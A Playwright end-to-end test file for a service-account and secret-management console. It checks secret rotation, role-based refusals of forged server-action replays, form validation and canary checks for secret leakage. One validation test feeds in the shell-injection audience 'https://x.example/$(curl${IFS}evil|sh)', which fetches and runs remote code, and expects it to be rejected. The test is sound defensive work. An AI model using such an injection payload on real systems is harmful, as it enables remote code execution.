import { existsSync, readFileSync } from "node:fs";
import { E2E_SERVER_LOG } from "./support/prepare";
import { expect, test } from "@playwright/test";
import { OWNER_STATE, signInAgain, uniqueName } from "./support/accounts";
import {
  addAudiences,
  createAccountViaUi,
  createScopeViaUi,
  freshOrg,
  inviteByLink,
  isServerActionCall,
  pickScopes,
  readAndCloseSecretDialog,
  replayServerAction,
  signUpThroughLink,
} from "./support/console";

test.use({ storageState: OWNER_STATE });
// These journeys rotate secrets and delete accounts, which need a recent sign-in.
test.beforeEach(async ({ page }) => signInAgain(page));

const SECRET = /^tss_[0-9A-Za-z]{42}$/;
const ANY_SECRET = /tss_[0-9A-Za-z]{42}/;

test("service account lifecycle: create, secret once, rotate, revoke, deactivate, reactivate, API key, delete", async ({ page }) => {
  test.setTimeout(120_000);
  const slug = await freshOrg(page);
  await createScopeViaUi(page, slug, "billing:read", { description: "Read invoices" });
  await createScopeViaUi(page, slug, "billing:refund", { highRisk: true, description: "Issue refunds" });

  await page.goto(`/${slug}/service-accounts`);
  await expect(page.getByText("No service accounts yet")).toBeVisible();
  await page.getByRole("link", { name: "Create service account" }).click();
  await expect(page).toHaveURL(new RegExp(`/${slug}/service-accounts/new$`));

  const name = uniqueName("billing-bot");
  await page.getByLabel("Name", { exact: true }).fill(name);
  await page.getByLabel("Description (optional)").fill("Reconciles invoices nightly");
  await pickScopes(page, [{ name: "billing:read" }, { name: "billing:refund", highRisk: true }]);
  await addAudiences(page, ["https://billing.example.com", "billing-api.example.com"]);
  await page.getByRole("button", { name: "15 min" }).click();
  await expect(page.getByLabel("Token lifetime (seconds)")).toHaveValue("900");

  // A high-risk scope needs an explicit confirmation; without it nothing is sent.
  await page.getByRole("button", { name: "Create service account" }).click();
  await expect(page.getByText("Confirm the high-risk scopes before saving")).toBeVisible();
  await page.getByLabel("I confirm this account needs the high-risk access above").check();
  await page.getByRole("button", { name: "Create service account" }).click();

  const reveal = page.getByRole("dialog", { name: `${name} is ready` });
  await expect(reveal).toBeVisible();
  const secret = await reveal.getByLabel("Client secret", { exact: true }).inputValue();
  const clientId = await reveal.getByLabel("Client ID", { exact: true }).inputValue();
  expect(secret).toMatch(SECRET);
  expect(clientId).toMatch(/^sa_[0-9A-Za-z]{20}$/);
  // Every .env value is a single-quoted shell word: sourcing the file expands nothing.
  await expect(reveal.getByRole("tabpanel")).toContainText(`TESSERA_CLIENT_SECRET='${secret}'`);
  await expect(reveal.getByRole("tabpanel")).toContainText(`TESSERA_TOKEN_URL='http://localhost:${process.env.E2E_PORT ?? 3100}/oauth/token'`);
  await reveal.getByRole("tab", { name: "curl" }).click();
  await expect(reveal.getByRole("tabpanel")).toContainText(`-u '${clientId}:${secret}'`);
  await expect(reveal.getByRole("tabpanel")).toContainText("-d grant_type=client_credentials");
  await reveal.getByRole("tab", { name: "Kubernetes" }).click();
  await expect(reveal.getByRole("tabpanel")).toContainText(`TESSERA_CLIENT_SECRET: "${secret}"`);

  // It cannot be dismissed before the person says the secret is stored.
  await page.keyboard.press("Escape");
  await page.mouse.click(5, 5);
  await expect(reveal).toBeVisible();
  await expect(reveal.getByRole("button", { name: "Done" })).toBeDisabled();
  await readAndCloseSecretDialog(reveal, []);
  await expect(page).toHaveURL(new RegExp(`/${slug}/service-accounts/${clientId}$`));
  expect(page.url()).not.toContain(secret);

  await page.reload();
  await expect(page.getByRole("heading", { name })).toBeVisible();
  expect(await page.content()).not.toContain(secret);
  await expect(page.getByTitle("billing:refund: high-risk scope")).toBeVisible();
  await expect(page.getByText("15 min")).toBeVisible();

  // Rotate with a 24 h grace period: old and new secret are both valid.
  const secrets = page.getByRole("table", { name: "Client secrets" });
  await page.getByRole("button", { name: "Rotate secret" }).click();
  const rotate = page.getByRole("dialog", { name: "Rotate the client secret" });
  await rotate.getByRole("button", { name: "24 h" }).click();
  await rotate.getByRole("button", { name: "Rotate secret" }).click();
  const rotated = page.getByRole("dialog", { name: "New client secret" });
  const secret2 = (await readAndCloseSecretDialog(rotated, ["Client secret"]))["Client secret"]!;
  expect(secret2).toMatch(SECRET);
  expect(secret2).not.toBe(secret);
  await expect(secrets.getByText("active", { exact: true })).toHaveCount(2);

  // Revoke the old one, by its hint.
  const oldHint = secret.slice(-4);
  await page.getByRole("button", { name: `Revoke secret ••••${oldHint}` }).click();
  await page.getByRole("alertdialog").getByRole("button", { name: "Revoke secret" }).click();
  await expect(page.getByTestId(`secret-${oldHint}`).getByText("revoked", { exact: true })).toBeVisible();
  await expect(page.getByTestId(`secret-${secret2.slice(-4)}`).getByText("active", { exact: true })).toBeVisible();

  // Deactivate, then reactivate.
  await page.getByRole("button", { name: "Deactivate", exact: true }).click();
  await expect(page.getByRole("alertdialog")).toContainText("stops working at once");
  await page.getByRole("alertdialog").getByRole("button", { name: "Deactivate account" }).click();
  await expect(page.getByRole("button", { name: "Reactivate", exact: true })).toBeVisible();
  await expect(page.getByText("No secret, API key or access token of this account works")).toBeVisible();
  await page.getByRole("button", { name: "Reactivate", exact: true }).click();
  await page.getByRole("alertdialog").getByRole("button", { name: "Reactivate account" }).click();
  await expect(page.getByRole("button", { name: "Deactivate", exact: true })).toBeVisible();

  // An API key, limited to one scope, shown once, then revoked.
  await page.getByRole("button", { name: "Create API key" }).click();
  const keyForm = page.getByRole("dialog", { name: "Create an API key" });
  await keyForm.getByLabel("Key name").fill("reporting");
  await keyForm.getByRole("button", { name: "30 days" }).click();
  await keyForm.getByLabel("billing:read").check();
  await keyForm.getByRole("button", { name: "Create key" }).click();
  const keyReveal = page.getByRole("dialog", { name: "API key “reporting”" });
  await expect(keyReveal.getByRole("button", { name: "Done" })).toBeDisabled();
  const apiKey = (await readAndCloseSecretDialog(keyReveal, ["API key"], "I have stored the API key"))["API key"]!;
  expect(apiKey).toMatch(/^tak_[0-9A-Za-z]{42}$/);
  const keyRow = page.getByTestId("api-key-reporting");
  await expect(keyRow).toContainText("active");
  await expect(keyRow).toContainText("billing:read");
  expect(await page.content()).not.toContain(apiKey);
  await page.getByRole("button", { name: "Revoke API key reporting" }).click();
  await page.getByRole("alertdialog").getByRole("button", { name: "Revoke API key" }).click();
  await expect(keyRow).toContainText("revoked");

  // The account's own audit trail shows what happened.
  const activity = page.getByRole("list", { name: "Recent activity" });
  for (const action of ["service_account.created", "service_account.secret_rotated", "service_account.secret_revoked", "service_account.deactivated", "service_account.activated"]) {
    await expect(activity.getByText(action, { exact: true })).toBeVisible();
  }

  // Delete needs the name typed out.
  await page.getByRole("button", { name: "Delete", exact: true }).click();
  const confirm = page.getByRole("alertdialog");
  await expect(confirm.getByRole("button", { name: "Delete service account" })).toBeDisabled();
  await confirm.getByLabel(/^Type .* to confirm$/).fill(name.toUpperCase());
  await expect(confirm.getByRole("button", { name: "Delete service account" })).toBeDisabled();
  await confirm.getByLabel(/^Type .* to confirm$/).fill(name);
  await confirm.getByRole("button", { name: "Delete service account" }).click();
  await expect(page).toHaveURL(new RegExp(`/${slug}/service-accounts$`));
  await expect(page.getByText("No service accounts yet")).toBeVisible();
  expect((await page.goto(`/${slug}/service-accounts/${clientId}`))?.status()).toBe(404);
  await expect(page.getByRole("heading", { name: "Not found" })).toBeVisible();
  await expect(page.getByText(name)).toHaveCount(0);
});

test("a REVIEWER reads everything and changes nothing; forged calls from a reviewer or another org's owner are refused", async ({ page, browser }) => {
  test.setTimeout(120_000);
  const slug = await freshOrg(page);
  await createScopeViaUi(page, slug, "billing:read");
  const account = await createAccountViaUi(page, slug, { scopes: [{ name: "billing:read" }] });

  // Capture the owner's own rotate call, to forge it later.
  await page.getByRole("button", { name: "Rotate secret" }).click();
  const [rotateCall] = await Promise.all([
    page.waitForRequest(isServerActionCall),
    page.getByRole("dialog", { name: "Rotate the client secret" }).getByRole("button", { name: "Rotate secret" }).click(),
  ]);
  await readAndCloseSecretDialog(page.getByRole("dialog", { name: "New client secret" }), []);
  const secretRows = page.getByRole("table", { name: "Client secrets" }).getByRole("row");
  await expect(secretRows).toHaveCount(3); // header + 2

  const reviewer = await signUpThroughLink(browser, await inviteByLink(page, slug, "REVIEWER"), "REVIEWER");
  const rp = reviewer.page;

  await rp.goto(`/${slug}/service-accounts`);
  await expect(rp.getByRole("table", { name: "Service accounts" }).getByRole("link", { name: account.name })).toBeVisible();
  await expect(rp.getByRole("link", { name: "Create service account" })).toHaveCount(0);
  await expect(rp.getByRole("button", { name: "Create service account" })).toHaveCount(0);

  await rp.getByRole("link", { name: account.name }).click();
  await expect(rp.getByRole("heading", { name: account.name })).toBeVisible();
  await expect(rp.getByRole("table", { name: "Client secrets" }).getByRole("row")).toHaveCount(3);
  for (const control of ["Rotate secret", "Deactivate", "Reactivate", "Delete", "Edit", "Create API key"]) {
    await expect(rp.getByRole("button", { name: control, exact: true })).toHaveCount(0);
  }
  await expect(rp.getByRole("button", { name: /^Revoke/ })).toHaveCount(0);
  expect((await rp.goto(`/${slug}/service-accounts/new`))?.status()).toBe(404);
  await expect(rp.getByRole("heading", { name: "Not found" })).toBeVisible();
  await expect(rp.getByLabel("Name", { exact: true })).toHaveCount(0);

  await rp.goto(`/${slug}/scopes`);
  await expect(rp.getByRole("table", { name: "Scopes" })).toBeVisible();
  await expect(rp.getByRole("button", { name: "Create scope" })).toHaveCount(0);
  await expect(rp.getByRole("button", { name: /^(Edit|Delete) / })).toHaveCount(0);

  // Forged: the reviewer replays the owner's rotate call.
  const asReviewer = await replayServerAction(reviewer.context.request, rotateCall);
  expect(asReviewer).toContain("Your role does not allow this");
  expect(asReviewer).not.toMatch(ANY_SECRET);

  // Forged: the owner of another organisation replays it too.
  const otherSlug = await freshOrg(page, "other");
  const outsider = await signUpThroughLink(browser, await inviteByLink(page, otherSlug, "OWNER"), "OWNER");
  const asOutsider = await replayServerAction(outsider.context.request, rotateCall);
  expect(asOutsider).toContain("Not found");
  expect(asOutsider).not.toMatch(ANY_SECRET);
  expect((await outsider.page.goto(`/${slug}/service-accounts/${account.clientId}`))?.status()).toBe(404);
  // Nor through their own organisation's URL: the lookup is scoped to the organisation.
  expect((await outsider.page.goto(`/${otherSlug}/service-accounts/${account.clientId}`))?.status()).toBe(404);
  await expect(outsider.page.getByRole("heading", { name: "Not found" })).toBeVisible();
  await expect(outsider.page.getByText(account.name)).toHaveCount(0);

  // Nothing changed: still the same two valid secrets, account still active.
  await page.goto(`/${slug}/service-accounts/${account.clientId}`);
  await expect(secretRows).toHaveCount(3);
  await expect(page.getByRole("table", { name: "Client secrets" }).getByText("active", { exact: true })).toHaveCount(2);
  await expect(page.getByRole("button", { name: "Deactivate", exact: true })).toBeVisible();
  await reviewer.context.close();
  await outsider.context.close();
});

test("bad input shows field-level errors and saves nothing", async ({ page }) => {
  test.setTimeout(120_000);
  const slug = await freshOrg(page);
  await createScopeViaUi(page, slug, "billing:read");
  await createScopeViaUi(page, slug, "billing:write");
  const existing = await createAccountViaUi(page, slug, { scopes: [{ name: "billing:read" }] });

  await page.goto(`/${slug}/service-accounts/new`);
  await page.getByLabel("Name", { exact: true }).fill(existing.name);
  await pickScopes(page, [{ name: "billing:read" }, { name: "billing:write" }]);

  // A malformed audience never becomes a chip.
  const audience = page.getByLabel("Audiences", { exact: true });
  await audience.fill("not a uri");
  await audience.press("Enter");
  await expect(page.getByText("“not a uri”: Audiences cannot contain spaces")).toBeVisible();
  // Nor does one a shell would run, or one the URL parser would rewrite: its canonical form is named instead.
  await audience.fill("https://x.example/$(curl${IFS}evil|sh)");
  await audience.press("Enter");
  await expect(page.getByText("“https://x.example/$(curl${IFS}evil|sh)”: Audiences cannot contain $, backticks, quotes or backslashes")).toBeVisible();
  await audience.fill("https://Billing.example.com:443/");
  await audience.press("Enter");
  await expect(page.getByText("“https://Billing.example.com:443/”: Write this audience in canonical form: https://billing.example.com/")).toBeVisible();
  await expect(page.getByRole("list", { name: "Audiences added" })).toHaveCount(0);
  await audience.fill("");

  // The server's schema: no audience, lifetime too short; both reported at once.
  await page.getByLabel("Token lifetime (seconds)").fill("30");
  await page.getByRole("button", { name: "Create service account" }).click();
  await expect(page.getByText("Add at least one audience")).toBeVisible();
  await expect(page.getByText("Token lifetime is at least 60 seconds")).toBeVisible();
  await expect(page.getByText("Nothing was saved. Check the highlighted fields.")).toBeVisible();
  await expect(page.getByLabel("Token lifetime (seconds)")).toHaveAttribute("aria-invalid", "true");

  // Then the duplicate name.
  await addAudiences(page, ["https://billing.example.com"]);
  await page.getByRole("button", { name: "1 h" }).click();
  await page.getByRole("button", { name: "Create service account" }).click();
  await expect(page.getByText("This name is taken in this organisation")).toBeVisible();
  await expect(page.getByText("Token lifetime is at least 60 seconds")).toHaveCount(0);

  // A scope deleted from the catalog (in another tab) while it is selected here.
  const other = await page.context().newPage();
  await other.goto(`/${slug}/scopes`);
  await other.getByRole("button", { name: "Delete billing:write" }).click();
  await other.getByRole("alertdialog").getByRole("button", { name: "Delete scope" }).click();
  await expect(other.getByTestId("scope-billing:write")).toHaveCount(0);
  await other.close();
  const fresh = uniqueName("fresh");
  await page.getByLabel("Name", { exact: true }).fill(fresh);
  await page.getByRole("button", { name: "Create service account" }).click();
  await expect(page.getByText(/Unknown scope: billing:write/)).toBeVisible();
  await expect(page.getByRole("dialog")).toHaveCount(0);

  // Nothing was saved: the list still holds only the first account.
  const list = await page.context().newPage();
  await list.goto(`/${slug}/service-accounts`);
  await expect(list.getByRole("table", { name: "Service accounts" }).getByRole("link")).toHaveCount(1);
  await list.close();

  // The same form recovers: drop the stale scope, create one inline, and save.
  await page.getByRole("button", { name: "Remove scope billing:write" }).click();
  await page.getByRole("button", { name: "Choose scopes" }).click();
  await page.getByLabel("Search scopes").fill("reports:export");
  await page.getByRole("button", { name: "Create scope “reports:export”" }).click();
  await expect(page.getByRole("list", { name: "Selected scopes" })).toContainText("reports:export");
  await page.keyboard.press("Escape");
  await page.getByRole("button", { name: "Create service account" }).click();
  const values = await readAndCloseSecretDialog(page.getByRole("dialog", { name: `${fresh} is ready` }), ["Client secret"]);
  expect(values["Client secret"]).toMatch(SECRET);
  await expect(page.getByRole("list", { name: "Scopes" })).toContainText("reports:export");
});

test("canary: a shown-once secret appears in no page or RSC payload afterwards, nor in the database files or server log", async ({ page }) => {
  test.setTimeout(120_000);
  const slug = await freshOrg(page);
  await createScopeViaUi(page, slug, "billing:read");
  const account = await createAccountViaUi(page, slug, { scopes: [{ name: "billing:read" }], audiences: ["https://billing.example.com"] });
  await page.getByRole("button", { name: "Rotate secret" }).click();
  await page.getByRole("dialog", { name: "Rotate the client secret" }).getByRole("button", { name: "Rotate secret" }).click();
  const rotated = (await readAndCloseSecretDialog(page.getByRole("dialog", { name: "New client secret" }), ["Client secret"]))["Client secret"]!;
  const canaries = [account.secret, rotated];
  for (const c of canaries) expect(c).toMatch(SECRET);

  const paths = [
    `/${slug}`,
    `/${slug}/service-accounts`,
    `/${slug}/service-accounts?q=${encodeURIComponent(account.name)}&scope=billing%3Aread`,
    `/${slug}/service-accounts/new`,
    `/${slug}/service-accounts/${account.clientId}`,
    `/${slug}/scopes`,
    `/${slug}/settings/members`,
  ];
  for (const path of paths) {
    for (const headers of [{}, { RSC: "1" }] as Record<string, string>[]) {
      const response = await page.request.get(path, { headers });
      expect(response.status(), `${path} ${JSON.stringify(headers)}`).toBe(200);
      const body = await response.text();
      if (path.endsWith(account.clientId)) expect(body).toContain(account.clientId); // a real render, not an error page
      for (const c of canaries) {
        expect(body, `${path} ${JSON.stringify(headers)}`).not.toContain(c);
        expect(body).not.toContain(c.slice(4, 24)); // nor a recognisable part of it, in any encoding
      }
    }
  }

  // Every byte the server has written: the SQLite database with its write-ahead log, and its own log.
  const dbFile = process.env.E2E_DATABASE_URL!.replace(/^file:/, "");
  const files = [dbFile, `${dbFile}-wal`, E2E_SERVER_LOG].filter((f) => existsSync(f));
  expect(files).toContain(E2E_SERVER_LOG);
  for (const file of files) {
    const bytes = readFileSync(file);
    for (const c of canaries) {
      expect(bytes.includes(Buffer.from(c)), file).toBe(false);
      expect(bytes.includes(Buffer.from(c.slice(4, 24))), file).toBe(false);
    }
  }
  // the files really hold this account (so the check above looked in the right place)
  expect(files.some((f) => f !== E2E_SERVER_LOG && readFileSync(f).includes(Buffer.from(account.clientId)))).toBe(true);
});

test("the list's search, filters, sorting and pagination live in the URL", async ({ page }) => {
  test.setTimeout(120_000);
  const slug = await freshOrg(page);
  await createScopeViaUi(page, slug, "billing:read");
  const a = await createAccountViaUi(page, slug, { name: "alpha-job", scopes: [{ name: "billing:read" }], audiences: ["https://a.example.com"] });
  await createAccountViaUi(page, slug, { name: "bravo-job", audiences: ["https://b.example.com"] });
  await createAccountViaUi(page, slug, { name: "charlie-agent", audiences: ["https://b.example.com"] });
  await page.getByRole("button", { name: "Deactivate", exact: true }).click();
  await page.getByRole("alertdialog").getByRole("button", { name: "Deactivate account" }).click();
  await expect(page.getByRole("button", { name: "Reactivate", exact: true })).toBeVisible();

  const table = page.getByRole("table", { name: "Service accounts" });

  await page.goto(`/${slug}/service-accounts?pageSize=10`);
  await expect(table.getByRole("link")).toHaveText(["alpha-job", "bravo-job", "charlie-agent"]); // auto-waits for the render
  await table.getByRole("button", { name: "Name" }).click();
  await expect(page).toHaveURL(/sort=name&dir=desc|dir=desc/);
  await expect(table.getByRole("columnheader", { name: "Name" })).toHaveAttribute("aria-sort", "descending");
  await expect(table.getByRole("link")).toHaveText(["charlie-agent", "bravo-job", "alpha-job"]); // auto-waits for the render

  // Pagination: a shareable link to page 2 of 2-per-page.
  await page.goto(`/${slug}/service-accounts?pageSize=2&page=2`);
  await expect(table.getByRole("link")).toHaveText(["charlie-agent"]); // auto-waits for the render
  await expect(page.getByText("3–3 of 3")).toBeVisible();
  await page.getByRole("button", { name: "Previous page" }).click();
  await expect(page).not.toHaveURL(/page=2/);
  await expect(table.getByRole("link")).toHaveText(["alpha-job", "bravo-job"]); // auto-waits for the render

  await page.goto(`/${slug}/service-accounts`);
  await page.getByLabel("Search service accounts").fill("job");
  await expect(page).toHaveURL(/q=job/);
  await expect(table.getByRole("link")).toHaveCount(2);

  await page.getByLabel("Filter by status").click();
  await page.getByRole("option", { name: "Deactivated" }).click();
  await expect(page).toHaveURL(/status=DISABLED/);
  await expect(page.getByText("No service accounts match")).toBeVisible();
  await page.getByRole("button", { name: "Clear filters" }).first().click();
  await expect(page).not.toHaveURL(/status=|q=/);
  await expect(page.getByLabel("Search service accounts")).toHaveValue("");
  await expect(table.getByRole("link")).toHaveCount(3);

  await page.goto(`/${slug}/service-accounts?status=DISABLED`);
  await expect(table.getByRole("link")).toHaveText(["charlie-agent"]); // auto-waits for the render
  await page.goto(`/${slug}/service-accounts?scope=billing%3Aread`);
  await expect(table.getByRole("link")).toHaveText(["alpha-job"]); // auto-waits for the render
  await expect(table.getByRole("button", { name: `Copy client ID of alpha-job` })).toBeVisible();
  await expect(table).toContainText(a.clientId);
  await page.goto(`/${slug}/service-accounts?audience=${encodeURIComponent("https://b.example.com")}`);
  await expect(table.getByRole("link")).toHaveText(["bravo-job", "charlie-agent"]); // auto-waits for the render
  // A hand-edited bad parameter falls back to its default instead of failing.
  expect((await page.goto(`/${slug}/service-accounts?status=NOPE&sort=evil&page=-3`))?.status()).toBe(200);
  await expect(table.getByRole("link")).toHaveCount(3);
});
